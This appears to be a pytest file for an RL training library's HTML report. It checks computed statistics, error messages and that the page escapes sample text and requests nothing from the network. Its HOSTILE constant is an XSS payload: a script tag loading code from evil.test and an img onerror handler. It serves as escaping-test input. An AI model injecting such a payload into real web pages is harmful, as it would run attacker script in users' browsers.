"""The report: what it computes, by hand; that its page asks nothing of the network and shows no one's text as HTML."""

import json
import math
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

from beam_rl.errors import InputError
from beam_rl.recipe.load import load
from beam_rl.recipe.tree import Logging
from beam_rl.report import Console, Report, series
from beam_rl.report.history import read_history
from beam_rl.report.page import write_page
from beam_rl.run import Run

TINY = Path(__file__).parents[1] / "recipes" / "tiny_cpu.yaml"
STEPS = 4
HOSTILE = '<script src="http://evil.test/x.js"></script><img src=http://evil.test/x.png onerror=name=1>" & \\boxed{5}'


def step_metrics(step: int) -> dict[str, float]:
    metrics = {
        "time/step_s": 2.0,
        "time/generate_s": 0.5,
        "time/update_s": 1.0,
        "time/sync_s": 0.25,
        "time/idle_s": 0.7,
    }
    if step:
        metrics |= {"reward/mean": 0.5 + step / 20, "reward/stderr": 0.05, "rollout/tokens_per_s": 3000.0}
        metrics |= {"parity/abs_logprob_diff_mean": 1e-7, "parity/abs_logprob_diff_max": 0.0 if step == 1 else 2e-6}
    if step in (0, STEPS):
        metrics |= {
            f"eval/toy/{name}@4": value + step / 20 for name, value in [("avg", 0.5), ("low", 0.4), ("high", 0.6)]
        }
    return metrics


def made_run(folder: Path, name: str = "toy", steps: int = STEPS, text: str = HOSTILE) -> Path:
    recipe = load(TINY, [f"name={name}", f"trainer.steps={STEPS}"]).model_dump(mode="json")
    with Run.open(folder, recipe) as run:
        for step in range(steps + 1):
            sample = {"row": step, "prompt": text, "text": text, "answer": "5", "score": 1.0, "reward": 1.0}
            run.log_samples(step, [sample]) if step else None
            if step in (0, STEPS):
                right = [[1, 0, 0, 0], [1, 1, 0, 0]] if step == 0 else [[1, 1, 1, 0], [1, 1, 1, 1]]
                rows = [({} if i else sample) | {"row": i, "scores": s} for i, s in enumerate(right)]
                run.log_evaluation(step, rows)
            run.log_metrics(step, step_metrics(step))
    return folder


# -- what is computed -------------------------------------------------------------------------------------------------


def test_intervals_come_from_their_ends_or_from_the_standard_error() -> None:
    rows = [{"step": 1, "a": 0.5, "e": 0.1, "l": 0.2, "h": 0.9}, {"step": 2, "a": 0.6}, {"step": 3, "b": 1.0}]
    by_error, by_ends = series.series(rows, "a", error="e"), series.series(rows, "a", low="l", high="h")
    assert by_error.steps == [1, 2] and by_error.low[0] == pytest.approx(0.304) and math.isnan(by_error.high[1])
    assert (by_ends.low[0], by_ends.high[0]) == (0.2, 0.9)


def test_the_gain_is_of_each_prompt_against_itself() -> None:
    # rises 1/2, 1/4 and 0: mean 1/4, std 1/4, half width 1.96 · 0.25 / √3 = 0.2829; what only one of both has is left out
    gain = series.paired_gain({1: 0.0, 2: 0.5, 3: 1.0, 9: 0.0}, {1: 0.5, 2: 0.75, 3: 1.0})
    assert gain and (gain.value, gain.low, gain.high) == pytest.approx((0.25, 0.25 - 0.2829, 0.25 + 0.2829), abs=1e-4)
    alone = series.paired_gain({1: 0.0}, {1: 0.5})
    assert alone == series.Gain(0.5) and series.paired_gain({1: 0.0}, {2: 1.0}) is None


def test_the_parts_of_a_step_are_its_time_and_what_saving_took_before_it() -> None:
    row = {"step": 1, "time/step_s": 3.0, "time/generate_s": 1.0, "time/hold_s": 0.25, "time/turn_s": 0.25}
    parts = series.time_parts(row | {"time/save_s": 4.0})
    assert sum(parts.values()) == 7.0 and (parts["other"], parts["hand over"], parts["save"]) == (1.5, 0.5, 4.0)
    bars = series.time_bars([row | {"step": step} for step in range(11)], most=5)
    assert [bar[:2] for bar in bars] == [(1, 2), (3, 4), (5, 6), (7, 8), (9, 10)] and bars[0][2]["generate"] == 1.0


def test_a_long_line_is_thinned_to_means_and_axes_have_round_ticks() -> None:
    rows = [{"step": step, "a": step % 2} for step in range(1000)]
    line = series.thinned(series.series(rows, "a"), 10)
    assert len(line.values) == 10 and line.values == [0.5] * 10 and line.steps[0] == 49.5
    assert series.ticks(0, 1) == pytest.approx([0, 0.25, 0.5, 0.75, 1]) and series.ticks(3, 3) == [3]
    assert series.decades(1e-8, 1e-3) == pytest.approx([1e-8, 1e-6, 1e-4])


# -- the page ---------------------------------------------------------------------------------------------------------


class Requests(HTMLParser):
    """Every address that a page's tags name, and the tags themselves."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.addresses, self.tags, self.handlers = [], [], []
        self.feed(page)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attributes:
            if name in ("src", "href", "srcset", "action", "data", "poster", "background", "xlink:href"):
                self.addresses.append(value)
            if name.startswith("on"):
                self.handlers.append(name)


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return made_run(tmp_path_factory.mktemp("report") / "run")


@pytest.fixture(scope="module")
def page(run: Path) -> str:
    return write_page([run]).read_text()


def test_the_page_names_no_address_and_no_text_of_a_sample_becomes_html(page: str) -> None:
    found = Requests(page)
    assert found.addresses == ["data:,"] and not found.handlers
    assert (
        not {"img", "iframe", "object", "embed", "base", "form"} & set(found.tags) and found.tags.count("script") == 1
    )
    assert not re.search(r"url\(|@import|fetch\(|XMLHttpRequest|http-equiv=.?refresh", page)
    assert "default-src 'none'" in page and "&lt;script src=&quot;http://evil.test" in page


def test_the_page_says_what_was_run_where_it_stands_and_what_was_gained(page: str) -> None:
    assert "step 4 of 4, done" in page and "grpo with clip · synchronous" in page
    # rises 1/2 and 1/2: no spread
    assert "toy avg@4: 50.0% → 70.0%, +50.0 points (95 % interval +50.0 to +50.0)" in page
    assert "bound of the mean, 1e-05" in page and "40.0% to 60.0%" in page and "1 of 4 right" in page
    for title in ("Reward of the samples", "Seconds of each step", "Tokens sampled a second", "Recipe"):
        assert title in page


def test_the_page_shows_who_said_what_in_a_sample_of_several_turns(tmp_path: Path) -> None:
    folder = made_run(tmp_path / "run", text="5 6")
    turns = [["model", "\\boxed{4}"], ["environment", HOSTILE], ["model", "\\boxed{5}"]]
    row = {
        "row": 0,
        "prompt": "2 + 3",
        "text": "\\boxed{5}",
        "answer": "5",
        "score": 0.5,
        "reward": 0.5,
        "turns": turns,
    }
    (folder / "samples" / "step_4.jsonl").write_text(json.dumps(row) + "\n")
    page = write_page([folder]).read_text()
    first, answer, second = (page.index(text) for text in ("boxed{4}", "<div class=environment>", "boxed{5}</span>"))
    assert first < answer < second and "<img" not in page and "score 0.5" in page


def asked_for(address: str, folder: Path) -> tuple[str, set[str]]:
    """The page as a browser has drawn it, and the hosts that were asked for but for the browser's own services."""
    options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--dump-dom"]
    options += [f"--user-data-dir={folder}/profile", "--host-resolver-rules=MAP * ~NOTFOUND"]
    command = ["chromium", *options, f"--log-net-log={folder}/net.json", address]
    drawn = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True).stdout
    hosts = set(re.findall(r'"url":"\w+://([^/"]+)', (folder / "net.json").read_text()))
    return drawn, {host for host in hosts if not host.endswith(("google.com", "googleapis.com", "gvt1.com"))}


@pytest.mark.skipif(not shutil.which("chromium"), reason="needs chromium")
def test_a_browser_draws_it_and_asks_for_nothing_but_the_file(run: Path, page: str, tmp_path: Path) -> None:
    drawn, hosts = asked_for(f"file://{run}/report.html", tmp_path)
    assert drawn.count("<figure>") == page.count("<figure>") == 5 and not hosts
    (tmp_path / "bare.html").write_text(HOSTILE)
    assert asked_for(f"file://{tmp_path}/bare.html", tmp_path)[1] == {"evil.test"}, "what the text would ask for"


@pytest.mark.parametrize(
    ("broken", "sentence"),
    [
        (
            lambda run: (run / "metrics.jsonl").open("a").write('{"step": 5, "rew'),
            "The last line of metrics.jsonl is cut",
        ),
        (lambda run: (run / "metrics.jsonl").unlink(), "metrics.jsonl is missing."),
        (
            lambda run: (run / "recipe.yaml").unlink(),
            "recipe.yaml is missing, so neither settings nor bounds are shown.",
        ),
        (lambda run: (run / "recipe.yaml").write_text("a: [1"), "recipe.yaml can&#x27;t be read"),
        (lambda run: (run / "metrics.jsonl").write_text('[]\n{"step": 1}\n'), "1 lines of metrics.jsonl are not JSON"),
        (
            lambda run: (run / "samples" / "step_4.jsonl").write_bytes(b"\xff{\n"),
            "The last line of step_4.jsonl is cut off",
        ),
    ],
)
def test_what_is_torn_or_missing_is_said_in_a_sentence(tmp_path: Path, broken, sentence: str) -> None:
    run = made_run(tmp_path / "run")
    broken(run)
    assert sentence in write_page([run]).read_text()


def test_a_run_without_steps_has_a_page_and_a_folder_without_a_run_has_none(tmp_path: Path) -> None:
    with Run.open(tmp_path / "new", load(TINY).model_dump(mode="json")) as run:
        page = write_page([run.folder]).read_text()
        assert "step 0 of 50, training" in page and "No step is reported yet." in page
    assert read_history(tmp_path / "new").standing == "stopped"
    (tmp_path / "empty").mkdir()
    for folder, words in (("empty", "holds no run"), ("nowhere", "no such folder")):
        with pytest.raises(InputError, match=words):
            write_page([tmp_path / folder])


def test_several_runs_are_compared_under_names_of_their_own(tmp_path: Path) -> None:
    runs = [made_run(tmp_path / "a"), made_run(tmp_path / "b"), made_run(tmp_path / "c", steps=2)]
    page = write_page(runs)
    text = page.read_text()
    assert page == tmp_path / "a" / "compare.html" and not (tmp_path / "a" / "report.html").exists()
    assert "<h1>a · b · c</h1>" in text and "step 2 of 4, stopped" in text and "The recipes are alike." in text
    assert Requests(text).addresses == ["data:,"]


def test_a_page_that_cannot_be_written_is_one_warning_and_the_run_goes_on(tmp_path: Path, capsys) -> None:
    run_folder = made_run(tmp_path / "run", steps=0)
    (run_folder / "report.html").mkdir()
    recipe = load(TINY, ["name=toy", f"trainer.steps={STEPS}"]).model_dump(mode="json")
    with Run.open(tmp_path / "other", recipe) as run, Console(STEPS) as console:
        run.folder.joinpath("report.html").mkdir()
        with Report(console, run, Logging(wandb="disabled")) as report:
            for step in (1, 2):
                report.step(step, step_metrics(step))
                report.refresh()
    assert capsys.readouterr().out.count("report.html: can't be written") == 1
    assert [json.loads(line)["step"] for line in (tmp_path / "other" / "metrics.jsonl").open()] == [1, 2]


def test_a_page_of_ten_thousand_steps_is_small_and_quick(tmp_path: Path) -> None:
    run = made_run(tmp_path / "run", text="x" * 50_000)
    rows = [{"step": step} | step_metrics(1) for step in range(10_000)]
    (run / "metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    assert write_page([run]).stat().st_size < 1_000_000
